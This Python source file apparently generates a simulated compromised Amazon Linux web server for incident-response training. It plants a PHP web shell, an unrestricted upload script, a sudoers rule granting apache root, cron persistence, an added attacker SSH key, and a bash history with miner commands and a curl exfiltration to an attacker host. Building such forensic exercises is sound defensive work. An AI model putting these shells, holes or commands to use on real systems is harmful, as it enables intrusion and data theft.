"""The web server's files: what a root file system of Amazon Linux holds, and what the intruder left among it.

One tree serves twice: as the root of the live host, and as the content of the root volume's file system image. So what
a script sees on the host and what is found on the disk agree, as they would on a real machine.
"""

from __future__ import annotations

import os
import shutil
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path

from irkit.sim.scenarios.web_to_role_theft.story import WEB_PORT, Host, Story
from irkit.sim.scenarios.web_to_role_theft.weblog import access_log

DAEMONS = (
    "/usr/sbin/httpd",
    "/usr/sbin/sshd",
    "/usr/sbin/crond",
    "/usr/bin/amazon-ssm-agent",
    "/usr/sbin/chronyd",
)


@dataclass(frozen=True, slots=True, kw_only=True)
class File:
    """One file of the tree; `when` is its modification time."""

    content: bytes
    when: datetime
    mode: int = 0o644


def plan_tree(story: Story, host: Host) -> dict[str, File]:
    """Every file of the host by absolute path; the intruder's only on the suspect."""
    files = _system(story, host) | _website(story) | _home(story)
    files |= _logs(story, host, broken_into=host is story.estate.suspect)
    if host is story.estate.suspect:
        files |= _planted(story)
    return files


def removed_files(story: Story) -> dict[str, File]:
    """What the intruder deleted: its traces are in the disk image only."""
    rng, intruder, times = story.rng("removed"), story.intruder, story.times
    return {
        intruder.miner: File(
            content=b"\x7fELF\x02\x01\x01" + rng.randbytes(48_000), when=times.miner, mode=0o700
        ),
        intruder.archive_path: File(content=b"\x1f\x8b\x08" + rng.randbytes(90_000), when=times.exfil),
    }


def write_tree(files: dict[str, File], root: Path) -> None:
    """Put the files under `root`, with modes and times; folders take the time of their newest file."""
    newest: dict[Path, float] = {}
    for name, file in files.items():
        path = root / name.lstrip("/")
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(file.content)
        path.chmod(file.mode)
        stamp = file.when.timestamp()
        os.utime(path, (stamp, stamp))
        newest[path.parent] = max(newest.get(path.parent, 0.0), stamp)
    for name in (
        "tmp",
        "var/tmp",
        "var/spool/cron",
        "etc/systemd/system/multi-user.target.wants",
        "run",
        "srv/data",
    ):
        (root / name).mkdir(parents=True, exist_ok=True)
    for daemon in DAEMONS:
        # stands in for the daemon: a process that does nothing but has the right name and path
        path = root / daemon.lstrip("/")
        path.parent.mkdir(parents=True, exist_ok=True)
        shutil.copyfile("/usr/bin/sleep", path)
        path.chmod(0o755)
    for folder, stamp in newest.items():
        os.utime(folder, (stamp, stamp))
    for name, mode in (("tmp", 0o1777), ("var/tmp", 0o1777), ("root", 0o700), ("home/ec2-user/.ssh", 0o700)):
        if (root / name).exists():
            (root / name).chmod(mode)


def _text(text: str, when: datetime, mode: int = 0o644) -> File:
    return File(content=text.encode(), when=when, mode=mode)


def _system(story: Story, host: Host) -> dict[str, File]:
    built = story.times.at.replace(hour=4, minute=12, second=8) - timedelta(days=210)
    launched = story.times.at - timedelta(days=19, hours=3)
    accounts = (
        "root:x:0:0:root:/root:/bin/bash\nbin:x:1:1:bin:/bin:/sbin/nologin\n"
        "sshd:x:74:74:Privilege-separated SSH:/usr/share/empty.sshd:/sbin/nologin\n"
        "apache:x:48:48:Apache:/usr/share/httpd:/sbin/nologin\n"
        "ec2-user:x:1000:1000:EC2 Default User:/home/ec2-user:/bin/bash\n"
    )
    release = (
        'NAME="Amazon Linux"\nVERSION="2023"\nID="amzn"\nID_LIKE="fedora"\nVERSION_ID="2023"\n'
        'PLATFORM_ID="platform:al2023"\nPRETTY_NAME="Amazon Linux 2023.6.20250115"\n'
    )
    return {
        "/etc/passwd": _text(accounts, built),
        "/etc/group": _text(
            "root:x:0:\nbin:x:1:\nsshd:x:74:\napache:x:48:\nec2-user:x:1000:\nwheel:x:10:ec2-user\n", built
        ),
        "/etc/shadow": _text(
            "root:*LOCK*:14600::::::\napache:!!:19900::::::\nec2-user:!!:19900::::::\n", built, 0o600
        ),
        "/etc/os-release": _text(release, built),
        "/etc/system-release": _text("Amazon Linux release 2023.6.20250115 (Amazon Linux)\n", built),
        "/etc/hostname": _text(f"{host.hostname}\n", launched),
        "/etc/hosts": _text(f"127.0.0.1 localhost\n{host.private_ip} {host.hostname}\n", launched),
        "/etc/resolv.conf": _text("nameserver 10.20.0.2\nsearch ec2.internal\n", launched),
        "/etc/machine-id": _text(f"{story.rng(host.private_ip).getrandbits(128):032x}\n", launched, 0o444),
        "/etc/fstab": _text(
            "UUID=root / ext4 defaults,noatime 1 1\nLABEL=data /srv/data ext4 defaults,nofail 0 2\n", launched
        ),
        "/etc/nsswitch.conf": _text("passwd: files\ngroup: files\nhosts: files dns\n", built),
        "/etc/ssh/sshd_config": _text(
            "PermitRootLogin forced-commands-only\nPasswordAuthentication no\n", built, 0o600
        ),
        "/etc/crontab": _text("SHELL=/bin/bash\nPATH=/sbin:/bin:/usr/sbin:/usr/bin\nMAILTO=root\n", built),
        "/etc/cron.d/0hourly": _text("01 * * * * root run-parts /etc/cron.hourly\n", built),
        "/etc/cron.d/dnf-automatic": _text("20 4 * * * root /usr/bin/dnf-automatic --timer\n", built),
        "/etc/sudoers.d/90-cloud-init-users": _text("ec2-user ALL=(ALL) NOPASSWD:ALL\n", launched, 0o440),
        # the mistake that turned a web shell into root
        "/etc/sudoers.d/95-deploy": _text("apache ALL=(ALL) NOPASSWD:ALL\n", launched, 0o440),
        "/etc/systemd/system/amazon-ssm-agent.service": _text(
            "[Unit]\nDescription=amazon-ssm-agent\n[Service]\nExecStart=/usr/bin/amazon-ssm-agent\n"
            "[Install]\nWantedBy=multi-user.target\n",
            built,
        ),
        "/etc/httpd/conf/httpd.conf": _text(f'Listen {WEB_PORT}\nDocumentRoot "/var/www/html"\n', launched),
        "/var/lib/cloud/instance/user-data.txt": _text(user_data(story), launched, 0o600),
        "/var/lib/amazon/ssm/Vault/Store/RegistrationKey": _text("{}\n", launched, 0o600),
    }


def user_data(story: Story) -> str:
    """The start-up script that the fleet's instances are launched with."""
    estate = story.estate
    return (
        "#!/bin/bash\nset -e\ndnf -y install httpd php\n"
        f"aws s3 sync s3://{estate.artifact_bucket}/release /var/www/html --region {estate.region}\n"
        f"aws secretsmanager get-secret-value --secret-id {estate.secret} --region {estate.region} > /etc/web.json\n"
        "systemctl enable --now httpd amazon-ssm-agent\n"
    )


def _website(story: Story) -> dict[str, File]:
    deployed = story.times.at - timedelta(days=9, hours=1)
    upload = (
        "<?php\n$to = 'uploads/' . $_FILES['file']['name'];\n"
        "move_uploaded_file($_FILES['file']['tmp_name'], $to);\n"
    )
    return {
        "/var/www/html/index.php": _text("<?php require 'config.php'; echo 'shop';\n", deployed),
        "/var/www/html/config.php": _text(
            "<?php $db = 'pgsql:host=10.20.3.30;dbname=shop';\n", deployed, 0o640
        ),
        "/var/www/html/upload.php": _text(upload, deployed),
        "/var/www/html/health.php": _text("ok\n", deployed),
        "/var/www/html/uploads/banner.jpg": File(content=b"\xff\xd8\xff\xe0" + bytes(2_000), when=deployed),
    }


def _home(story: Story) -> dict[str, File]:
    launched = story.times.at - timedelta(days=19, hours=3)
    estate = story.estate
    key = f"ssh-ed25519 {estate.launch_key_blob} {estate.launch_key}\n"
    forced = 'no-port-forwarding,command="echo \'Please login as the user \\"ec2-user\\"\';exit 142" '
    return {
        "/home/ec2-user/.bashrc": _text("# .bashrc\n", launched),
        "/home/ec2-user/.bash_history": _text(
            "sudo systemctl status httpd\nexit\n", launched + timedelta(days=2), 0o600
        ),
        "/home/ec2-user/.ssh/authorized_keys": _text(key, launched, 0o600),
        "/root/.ssh/authorized_keys": _text(forced + key, launched, 0o600),
        "/root/.bashrc": _text("# .bashrc\n", launched),
    }


def _logs(story: Story, host: Host, *, broken_into: bool) -> dict[str, File]:
    at, rng = story.times.at, story.rng(f"logs-{host.private_ip}")
    name = host.hostname.partition(".")[0]
    visits = access_log(story) if broken_into else ""
    secure, cron, messages = [], [], []
    when = at - timedelta(hours=48)
    while when < at:
        scanner = f"198.18.{rng.randrange(60, 99)}.{rng.randrange(1, 254)} port {rng.randrange(1024, 65_000)}"
        secure.append((when, f"sshd[{rng.randrange(900, 30_000)}]: Connection closed by {scanner} [preauth]"))
        messages.append((when, f"systemd[1]: Started session-{rng.randrange(10, 9_999)}.scope."))
        cron.append((when, "CROND[2211]: (root) CMD (run-parts /etc/cron.hourly)"))
        when += timedelta(minutes=60)
    if broken_into:
        secure += _sudo_lines(story)
        when = story.times.cron + timedelta(minutes=10 - story.times.cron.minute % 10)
        while when < at:
            command = f"(root) CMD ({story.intruder.cron_command})"
            cron.append((when.replace(second=1), f"CROND[{rng.randrange(3_000, 30_000)}]: {command}"))
            when += timedelta(minutes=10)
    return {
        "/var/log/httpd/access_log": _text(visits, at - timedelta(seconds=5)),
        "/var/log/httpd/error_log": _text("", at - timedelta(days=1)),
        "/var/log/secure": _text(_syslog(name, secure), at - timedelta(minutes=7), 0o600),
        "/var/log/messages": _text(_syslog(name, messages), at - timedelta(minutes=3), 0o600),
        "/var/log/cron": _text(_syslog(name, cron), at - timedelta(minutes=2), 0o600),
    }


def _sudo_lines(story: Story) -> list[tuple[datetime, str]]:
    intruder, times = story.intruder, story.times
    done = (
        (times.entry + timedelta(seconds=58), "list"),
        (times.miner, intruder.miner),
        (times.cron, f"/usr/bin/tee {intruder.cron_path}"),
        (times.ssh, "/usr/bin/tee -a /home/ec2-user/.ssh/authorized_keys"),
    )
    return [
        (when, f"sudo[4811]: apache : PWD=/var/www/html/uploads ; USER=root ; COMMAND={command}")
        for when, command in done
    ]


def _syslog(name: str, lines: list[tuple[datetime, str]]) -> str:
    return "".join(f"{when:%b} {when.day:2d} {when:%H:%M:%S} {name} {line}\n" for when, line in sorted(lines))


def _planted(story: Story) -> dict[str, File]:
    intruder, times, estate = story.intruder, story.times, story.estate
    shell = (
        f"<?php if (($_GET['k'] ?? '') === '{intruder.shell_password}') {{ system($_GET['c'] . ' 2>&1'); }}\n"
    )
    keys = (
        f"ssh-ed25519 {estate.launch_key_blob} {estate.launch_key}\n"
        f"ssh-ed25519 {intruder.ssh_blob} {intruder.ssh_comment}\n"
    )
    history = "".join(
        f"#{int(when.timestamp())}\n{command}\n"
        for when, command in (
            (times.miner - timedelta(seconds=30), f"mkdir -p {intruder.miner_dir}"),
            (
                times.miner,
                f"{intruder.miner} -o stratum+tcp://{intruder.pool_ip}:{intruder.pool_port} --background",
            ),
            (times.miner + timedelta(seconds=20), f"rm -f {intruder.miner}"),
            (times.cron, f"vi {intruder.cron_path}"),
            (times.exfil, f"curl -sT {intruder.archive_path} https://{intruder.exfil_ip}/"),
            (times.exfil + timedelta(minutes=15), f"rm -f {intruder.archive_path}"),
        )
    )
    config = (
        f'{{"pools": [{{"url": "{intruder.pool_ip}:{intruder.pool_port}", "user": "{intruder.wallet}"}}], '
        '"cpu": {"max-threads-hint": 75}}\n'
    )
    return {
        intruder.shell_path: _text(shell, times.upload),
        intruder.hostile_file: File(
            content=b"\xff\xd8\xff\xe0 not a picture", when=times.upload + timedelta(minutes=2)
        ),
        intruder.cron_path: _text(f"*/10 * * * * root {intruder.cron_command}\n", times.cron),
        "/home/ec2-user/.ssh/authorized_keys": _text(keys, times.ssh, 0o600),
        "/root/.bash_history": _text(history, times.exfil + timedelta(minutes=15), 0o600),
        f"{intruder.miner_dir}/config.json": _text(config, times.miner, 0o600),
    }


def boot_text(story: Story, host: Host) -> str:
    """What the host wrote to its console: the boot, its key, and the login prompt."""
    up = datetime.fromtimestamp(story.times.at.timestamp(), UTC) - timedelta(days=19)
    return (
        "[    0.000000] Linux version 6.1.119-129.201.amzn2023.x86_64 (gcc 11.4.1) #1 SMP PREEMPT_DYNAMIC\n"
        "[    0.000000] Command line: BOOT_IMAGE=(hd0,gpt1)/boot/vmlinuz root=UUID=root ro console=ttyS0,115200n8\n"
        "[    1.903114] EXT4-fs (nvme0n1p1): mounted filesystem with ordered data mode\n"
        "[    4.118203] EXT4-fs (nvme1n1): mounted filesystem with ordered data mode\n"
        f"[    9.551270] cloud-init[1893]: Cloud-init v. 22.2.2 finished at {up:%a, %d %b %Y %H:%M:%S} +0000\n"
        f"ci-info: | eth0 | True | {host.private_ip} | 255.255.255.0 | global |\n"
        "<14>ec2: -----BEGIN SSH HOST KEY FINGERPRINTS-----\n<14>ec2: -----END SSH HOST KEY FINGERPRINTS-----\n\n"
        f"Amazon Linux 2023.6.20250115\nKernel 6.1.119-129.201.amzn2023.x86_64 on an x86_64 (-)\n\n"
        f"{host.hostname.partition('.')[0]} login: "
    )
